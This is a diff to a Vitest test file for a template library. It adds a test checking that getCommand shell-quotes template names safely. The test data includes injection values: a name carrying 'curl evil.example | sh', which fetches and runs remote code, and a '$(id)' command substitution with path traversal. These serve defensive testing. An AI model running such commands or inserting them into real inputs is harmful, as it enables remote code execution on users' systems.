@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest'
-import { oldTemplateForget, oldTemplatesOf, withoutSecrets, wordsOf } from '../src/lib/templates'
+import { getCommand, oldTemplateForget, oldTemplatesOf, withoutSecrets, wordsOf } from '../src/lib/templates'
 
 describe('templates', () => {
   it('have no secrets, and lose no comment', () => {
@@ -11,6 +11,7 @@ describe('templates', () => {
     expect(kept).toContain('token: ""')
     expect(withoutSecrets('extras: &hidden\n  token: abc\nsecrets: *hidden\n')).not.toContain('secrets')
     expect(withoutSecrets('secrets: |\n  token: abc\n')).not.toContain('abc')
+    expect(withoutSecrets('secrets: {a: b}\nname: [\n')).toBe('secrets: {a: b}\nname: [\n')
     expect(withoutSecrets('name: x # mine\n')).toBe('name: x # mine\n')
   })
   it('that a browser kept are found until they are forgotten', () => {
@@ -22,6 +23,11 @@ describe('templates', () => {
     expect(localStorage.getItem('skep.templates.odd')).toBeNull()
     localStorage.setItem('skep.templates.odd', 'not JSON')
     expect(oldTemplatesOf('odd')).toEqual([])
+  })
+  it('have a command that runs nothing of their names', () => {
+    expect(getCommand({ author: 'ann', name: 'mnist' })).toBe('skep template get ann~mnist > mnist.yaml')
+    expect(getCommand({ author: 'ann', name: "x; curl evil.example | sh #'" })).toBe("skep template get 'ann~x; curl evil.example | sh #'\\''' > 'x; curl evil.example | sh #'\\''.yaml'")
+    expect(getCommand({ author: 'ann', name: '../$(id)' })).toBe("skep template get 'ann~../$(id)' > '$(id).yaml'")
   })
   it('have words, each once', () => {
     expect(wordsOf(' vision, small ,,vision')).toEqual(['vision', 'small'])
